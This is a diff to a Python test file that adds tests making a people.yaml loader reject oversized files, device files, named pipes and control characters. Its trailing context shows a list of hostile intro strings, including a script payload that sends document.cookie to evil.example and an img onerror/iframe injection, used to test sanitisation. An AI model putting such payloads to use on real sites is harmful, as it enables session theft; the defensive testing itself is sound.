@@ -106,6 +106,38 @@ def test_missing_file_is_a_located_error(tmp_path: Path) -> None:
         load_people(tmp_path / "nope.yaml")
 
 
+def test_people_file_is_read_bounded(tmp_path: Path) -> None:
+    big = tmp_path / "people.yaml"
+    big.write_bytes(b"recruiters: {}\n" + b"# padding\n" * 200_000)  # 2 MB of comments
+    with pytest.raises(QuestionnaireError, match=r"people.yaml:1: \(root\): file is 2,000,015 bytes; the limit is"):
+        load_people(big)
+
+
+@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
+def test_a_people_device_is_never_read(device: str) -> None:
+    # /dev/zero reports size 0: a stat check alone would then read forever.
+    if not Path(device).exists():
+        pytest.skip(f"no {device}")
+    with pytest.raises(QuestionnaireError, match="a character device, not a regular file"):
+        load_people(device)
+
+
+def test_a_people_fifo_is_refused_at_once(tmp_path: Path) -> None:
+    import os
+
+    if not hasattr(os, "mkfifo"):
+        pytest.skip("no named pipes on this system")
+    os.mkfifo(tmp_path / "people.yaml")
+    with pytest.raises(QuestionnaireError, match="a named pipe"):
+        load_people(tmp_path / "people.yaml")
+
+
+def test_an_escaped_control_character_in_an_intro_is_refused() -> None:
+    text = 'recruiters:\n  dana:\n    display_name: Dana\n    firm: "W\\u0000S"\n    specialty: x\n    intro: hi\n'
+    with pytest.raises(QuestionnaireError, match=r"people.yaml:4: recruiters.dana.firm: control character U\+0000"):
+        parse_people(text, "people.yaml")
+
+
 HOSTILE_INTROS = [
     "<script>document.location='https://evil.example/?c='+document.cookie</script>",
     '<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>',
